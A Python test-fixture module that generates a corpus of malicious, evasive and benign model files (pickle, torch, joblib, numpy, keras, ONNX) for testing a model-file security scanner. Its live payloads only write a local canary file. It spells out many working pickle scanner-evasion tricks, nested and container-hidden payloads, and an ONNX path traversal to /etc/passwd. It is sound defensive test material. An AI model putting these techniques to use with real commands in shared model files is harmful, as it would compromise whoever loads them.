"""A corpus of malicious, evasive and benign model files, generated on demand (never committed).

Each malicious payload, if it were ever loaded, would create the ``canary`` file (or try a
network/browser action for the few cases marked ``live=False``). Tests scan the corpus and check
that the canary never appears; a separate test proves a sample of the payloads are live by loading
them in a subprocess. bench/modelscan.py uses the same corpus against picklescan and modelscan.

This module deliberately builds pickles with dangerous imports: it is test data, never shipped.
"""

from __future__ import annotations

import bz2
import gzip
import io
import json
import lzma
import os
import pickle
import struct
import subprocess
import zipfile
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path
from typing import Any


@dataclass(frozen=True)
class Case:
    name: str
    path: Path
    expected: str  # safe | suspicious | malicious
    loader: str = "pickle"  # how a victim would load it: pickle | torch | joblib | numpy | none
    live: bool = True  # loading it really runs the payload (writes the canary)


# -- hand-assembled opcodes ---------------------------------------------------------------
def s(text: str) -> bytes:
    data = text.encode()
    if len(data) < 256:
        return b"\x8c" + bytes([len(data)]) + data
    return b"X" + struct.pack("<I", len(data)) + data


def sg(module: str, name: str) -> bytes:
    return s(module) + s(name) + b"\x93"


def b(data: bytes) -> bytes:
    return b"B" + struct.pack("<I", len(data)) + data


def call(func: bytes, *args: bytes) -> bytes:
    return func + b"(" + b"".join(args) + b"tR"


def p4(body: bytes) -> bytes:
    return b"\x80\x04" + body + b"."


class _Reduce:
    def __init__(self, func: Callable[..., Any], *args: Any) -> None:
        self.func, self.args = func, args

    def __reduce__(self) -> tuple[Any, ...]:
        return self.func, self.args


def build(root: Path, canary: Path) -> list[Case]:
    """Write the corpus under ``root``; every live payload targets ``canary``."""
    import joblib
    import numpy as np
    import torch

    root.mkdir(parents=True, exist_ok=True)
    c = str(canary)
    code = f"open({c!r}, 'w').write('pwned')"
    cmd = f"touch {c}"
    (root / "source.txt").write_text("copied by the payload\n")
    cases: list[Case] = []

    def add(name: str, data: bytes, expected: str = "malicious", loader: str = "pickle",
            live: bool = True) -> None:
        path = root / name
        path.write_bytes(data)
        cases.append(Case(name, path, expected, loader, live))

    # plain __reduce__ payloads, every protocol
    for proto in range(6):
        add(f"os_system_p{proto}.pkl", pickle.dumps(_Reduce(os.system, cmd), protocol=proto))
    add("exec_p5.pkl", pickle.dumps(_Reduce(exec, code), protocol=5))
    add("subprocess_check_call.pkl",
        pickle.dumps(_Reduce(subprocess.check_call, ["touch", c])))
    import shutil

    add("shutil_copyfile.pkl", pickle.dumps(_Reduce(shutil.copyfile,
                                                    str(root / "source.txt"), c)))
    import webbrowser

    add("webbrowser_open.pkl", pickle.dumps(_Reduce(webbrowser.open, "http://127.0.0.1:9/")),
        live=False)
    import socket

    add("socket_connect.pkl", pickle.dumps(_Reduce(socket.create_connection,
                                                   ("127.0.0.1", 9))), live=False)
    import cProfile

    add("cprofile_run.pkl", pickle.dumps(_Reduce(cProfile.run, code)))

    # hand-built evasions
    add("eval_protocol0_builtin.pkl", b"c__builtin__\neval\n(V" + code.encode() + b"\ntR.")
    add("inst_opcode.pkl", b"(V" + cmd.encode() + b"\nios\nsystem\n.")
    add("obj_opcode.pkl", b"(cos\nsystem\nV" + cmd.encode() + b"\no.")
    add("memo_stack_global.pkl", p4(
        b"](" + s("posix") + b"\x94" + s("system") + b"\x94e0"
        + b"h\x00h\x01\x93" + s(cmd) + b"\x85R"))
    add("computed_module_name.pkl", p4(
        call(sg("builtins", "str"), s("posix")) + s("system") + b"\x93" + s(cmd) + b"\x85R"))
    add("getattr_chain.pkl", p4(call(call(sg("builtins", "getattr"),
                                          call(sg("importlib", "import_module"), s("os")),
                                          s("system")), s(cmd))))
    add("pkgutil_resolve_name.pkl", p4(call(call(sg("pkgutil", "resolve_name"),
                                                 s("os:system")), s(cmd))))
    add("pydoc_locate.pkl", p4(call(call(sg("pydoc", "locate"), s("builtins.exec")), s(code))))
    add("operator_methodcaller.pkl", p4(call(
        call(sg("operator", "methodcaller"), s("system"), s(cmd)),
        call(sg("importlib", "import_module"), s("os")))))
    add("runpy_run_code.pkl", p4(call(sg("runpy", "_run_code"), s(code), b"}")))
    add("numpy_runstring.pkl", p4(call(sg("numpy.testing._private.utils", "runstring"),
                                       s(code), b"}")))
    add("torch_collect_env_run.pkl", p4(call(sg("torch.utils.collect_env", "run"), s(cmd))))
    evil = pickle.dumps(_Reduce(exec, code))
    add("nested_pickle_loads.pkl", p4(call(sg("pickle", "loads"), b(evil))))
    add("nested_torch_load_from_bytes.pkl", p4(call(sg("torch.storage", "_load_from_bytes"),
                                                    b(evil))))
    add("concatenated_streams.pkl", pickle.dumps({"weights": [1.0, 2.0]}) + evil, live=False)
    add("malformed_tail.pkl", b"\x80\x04" + call(sg("builtins", "exec"), s(code))
        + b"\xff\xfe garbage, no STOP")
    add("build_on_global.pkl", p4(sg("collections", "OrderedDict") + b"N}" + s("__repr__")
                                  + sg("builtins", "id") + b"s\x86b"), live=False)
    add("ext_opcode.pkl", b"\x80\x02\x82\x07)R.", expected="suspicious", live=False)

    # containers
    add("evil.gz", gzip.compress(evil), loader="joblib")
    add("evil.bz2", bz2.compress(evil), loader="joblib")
    add("evil.xz", lzma.compress(evil), loader="joblib")
    buf = io.BytesIO()
    torch.save({"state_dict": {"w": torch.ones(2)}, "hook": _Reduce(exec, code)}, buf)
    add("torch_zip.pt", buf.getvalue(), loader="torch")
    buf = io.BytesIO()
    torch.save({"w": torch.ones(2), "hook": _Reduce(exec, code)}, buf,
               _use_new_zipfile_serialization=False)
    add("torch_legacy.pt", buf.getvalue(), loader="torch")
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as zf:
        zf.writestr("archive/data.pkl", pickle.dumps({"ok": 1}))
        zf.writestr("archive/extra", evil)
    add("zip_hidden_member.pt", buf.getvalue(), loader="none", live=False)
    jl = root / "joblib_after_array.joblib"
    joblib.dump({"coef": np.arange(64.0), "hook": _Reduce(exec, code)}, jl)
    cases.append(Case(jl.name, jl, "malicious", "joblib"))
    jz = root / "joblib_zlib.joblib"
    joblib.dump({"coef": np.arange(8.0), "hook": _Reduce(exec, code)}, jz, compress=3)
    cases.append(Case(jz.name, jz, "malicious", "joblib"))
    npy = io.BytesIO()
    np.save(npy, np.array([_Reduce(exec, code)], dtype=object), allow_pickle=True)
    add("object_array.npy", npy.getvalue(), loader="numpy")
    npz = root / "object_array.npz"
    np.savez(npz, a=np.array([_Reduce(exec, code)], dtype=object))
    cases.append(Case(npz.name, npz, "malicious", "numpy"))
    add("keras_lambda.keras", _keras({"class_name": "Lambda", "config": {
        "name": "lambda", "function": {"class_name": "__lambda__", "config": {
            "code": "4wEAAAAAAAAA", "defaults": None, "closure": None}}}}),
        loader="none", live=False)
    (root / "onnx_escape").mkdir(exist_ok=True)
    add("onnx_escape/model.onnx", onnx_with_external("../../../../etc/passwd"), loader="none",
        live=False)
    _evasion_module().build(root, canary, add)
    cases.extend(_benign(root))
    return cases


def _evasion_module() -> Any:
    """evasion.py, loaded by path like this module (tests/assets is not a package)."""
    import importlib.util
    import sys

    spec = importlib.util.spec_from_file_location("cpmap_model_evasion",
                                                  Path(__file__).with_name("evasion.py"))
    assert spec is not None and spec.loader is not None
    module = importlib.util.module_from_spec(spec)
    sys.modules[spec.name] = module
    spec.loader.exec_module(module)
    return module


def _keras(layer: dict[str, Any]) -> bytes:
    config = {"module": "keras", "class_name": "Sequential", "config": {"name": "seq", "layers": [
        {"module": "keras.layers", "class_name": "InputLayer", "config": {"name": "in"}},
        {"module": "keras.layers", "class_name": "Dense", "config": {"name": "d", "units": 2}},
        layer]}}
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as zf:
        zf.writestr("config.json", json.dumps(config))
        zf.writestr("metadata.json", json.dumps({"keras_version": "3.6.0"}))
    return buf.getvalue()


def _field(num: int, payload: bytes) -> bytes:
    return _varint(num << 3 | 2) + _varint(len(payload)) + payload


def _varint(n: int) -> bytes:
    out = bytearray()
    while True:
        byte, n = n & 0x7F, n >> 7
        out.append(byte | (0x80 if n else 0))
        if not n:
            return bytes(out)


def onnx_with_external(location: str) -> bytes:
    """A minimal ModelProto: one initializer whose data lives in an external file."""
    entry = _field(1, b"location") + _field(2, location.encode())
    tensor = (_varint(1 << 3) + _varint(4) + _varint(2 << 3) + _varint(1)
              + _field(8, b"w") + _field(13, entry) + _varint(14 << 3) + _varint(1))
    node = _field(1, b"w") + _field(2, b"y") + _field(4, b"Identity")
    graph = _field(1, node) + _field(2, b"g") + _field(5, tensor)
    opset = _field(1, b"") + _varint(2 << 3) + _varint(17)
    return _varint(1 << 3) + _varint(8) + _field(7, graph) + _field(8, opset)


def _benign(root: Path) -> list[Case]:
    """Files a model hub really holds: these must come out safe."""
    import datetime

    import joblib
    import numpy as np
    import torch
    from safetensors.torch import save_file
    from sklearn.linear_model import LogisticRegression
    from sklearn.pipeline import make_pipeline
    from sklearn.preprocessing import StandardScaler

    out = []
    net = torch.nn.Sequential(torch.nn.Linear(4, 3), torch.nn.ReLU(), torch.nn.Linear(3, 2))
    items: list[tuple[str, Callable[[Path], Any]]] = [
        ("benign_state_dict.pt", lambda p: torch.save(net.state_dict(), p)),
        ("benign_full_module.pt", lambda p: torch.save(net, p)),
        ("benign_legacy.pt", lambda p: torch.save(net.state_dict(), p,
                                                  _use_new_zipfile_serialization=False)),
        ("benign_tensor.pkl", lambda p: p.write_bytes(pickle.dumps(torch.arange(3.0)))),
        ("benign_sklearn.joblib", lambda p: joblib.dump(make_pipeline(
            StandardScaler(), LogisticRegression()).fit(np.eye(4), [0, 1, 0, 1]), p)),
        ("benign_sklearn_z.joblib", lambda p: joblib.dump(make_pipeline(
            StandardScaler()).fit(np.eye(3)), p, compress=3)),
        ("benign_dict.pkl", lambda p: p.write_bytes(pickle.dumps(
            {"lr": 0.1, "when": datetime.datetime(2026, 1, 1), "shape": (2, 3),
             "arr": np.arange(4), "b": b"\x00\x01"}, protocol=2))),
        ("benign.npy", lambda p: np.save(p, np.arange(10.0))),
        ("benign.npz", lambda p: np.savez(p, a=np.arange(3), b=np.ones((2, 2)))),
        ("benign.safetensors", lambda p: save_file({"w": torch.ones(2, 2)}, str(p))),
        ("benign_dense.keras", lambda p: p.write_bytes(_keras(
            {"module": "keras.layers", "class_name": "Dense", "config": {"name": "o"}}))),
    ]
    for name, write in items:
        path = root / name
        write(path)
        loader = "torch" if name.endswith(".pt") else "none"
        out.append(Case(name, path, "safe", loader, live=False))
    (root / "onnx_ok").mkdir(exist_ok=True)
    (root / "onnx_ok" / "weights.bin").write_bytes(b"\x00" * 16)
    (root / "onnx_ok" / "model.onnx").write_bytes(onnx_with_external("weights.bin"))
    out.append(Case("onnx_ok/model.onnx", root / "onnx_ok" / "model.onnx", "safe", "none",
                    live=False))
    return out


LOAD_SNIPPET = {
    "pickle": "import pickle,sys; pickle.loads(open(sys.argv[1],'rb').read())",
    # the C unpickler over a stream without peek(), as torch.load reads a zip's data.pkl
    "stream": "import io,pickle,sys; pickle.load(io.BytesIO(open(sys.argv[1],'rb').read()))",
    "stream_all": "import io,pickle,sys; f=io.BytesIO(open(sys.argv[1],'rb').read())\n"
                  "while f.tell() < len(f.getvalue()): pickle.load(f)",
    "python_unpickler": "import pickle,sys; pickle._loads(open(sys.argv[1],'rb').read())",
    "latin1": "import pickle,sys; pickle.loads(open(sys.argv[1],'rb').read(), encoding='latin1')",
    "torch": "import torch,sys; torch.load(sys.argv[1], weights_only=False)",
    "joblib": "import joblib,sys; joblib.load(sys.argv[1])",
    "numpy": "import numpy as np,sys; d=np.load(sys.argv[1], allow_pickle=True); "
             "[d[k] for k in getattr(d, 'files', [])]",
}
